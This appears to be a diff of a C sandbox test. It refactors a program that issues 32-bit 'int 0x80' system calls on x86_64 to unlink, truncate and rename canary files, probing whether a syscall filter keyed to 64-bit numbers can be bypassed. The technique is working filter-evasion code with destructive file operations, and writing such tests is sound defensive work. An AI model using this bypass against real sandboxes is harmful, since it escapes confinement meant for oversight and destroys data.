@@ -2,35 +2,13 @@
 // 32-bit system calls have their own numbers (10 is link's neighbour, not unlink, in the 64-bit table)
 // and their own audit architecture; a filter written for x86_64 numbers must not simply allow them.
 #define _GNU_SOURCE
-#include <dirent.h>
-#include <errno.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
+#include "attack.h"
 #include <sys/mman.h>
-#include <unistd.h>
 
 static long int80(long nr, long a, long b, long c) {
     long ret;
     __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
     return ret;
-}
-
-static void show(const char *what, long r) {
-    printf("%s -> %ld (%s)\n", what, r, r < 0 ? strerror((int)-r) : "success");
-    fflush(stdout);
-}
-
-// The canary's regular files (top level), as names relative to it: the attack does not assume them.
-static int canary_files(const char *canary, char names[][256], int max) {
-    DIR *d = opendir(canary);
-    int n = 0;
-    struct dirent *e;
-    if (!d) { perror(canary); return 0; }
-    while (n < max && (e = readdir(d)))
-        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
-    closedir(d);
-    return n;
 }
 
 int main(void) {
@@ -46,10 +24,10 @@ int main(void) {
     snprintf(b, 4096, "%s/%s", canary, f[1]);
     snprintf(c, 4096, "%s/%s", canary, f[2]);
     snprintf(d, 4096, "%s/renamed-by-i386", canary);
-    show("i386 unlink(canary file 1) [int 0x80, eax=10]", int80(10, (long)a, 0, 0));
+    show_raw("i386 unlink(canary file 1) [int 0x80, eax=10]", int80(10, (long)a, 0, 0));
     long fd = int80(5, (long)b, 01 | 01000 /* O_WRONLY|O_TRUNC */, 0);
-    show("i386 open(canary file 2, O_WRONLY|O_TRUNC) [eax=5]", fd);
+    show_raw("i386 open(canary file 2, O_WRONLY|O_TRUNC) [eax=5]", fd);
     if (fd >= 0) int80(6, fd, 0, 0); // close
-    show("i386 rename(canary file 3, canary/renamed-by-i386) [eax=38]", int80(38, (long)c, (long)d, 0));
+    show_raw("i386 rename(canary file 3, canary/renamed-by-i386) [eax=38]", int80(38, (long)c, (long)d, 0));
     return 0;
 }
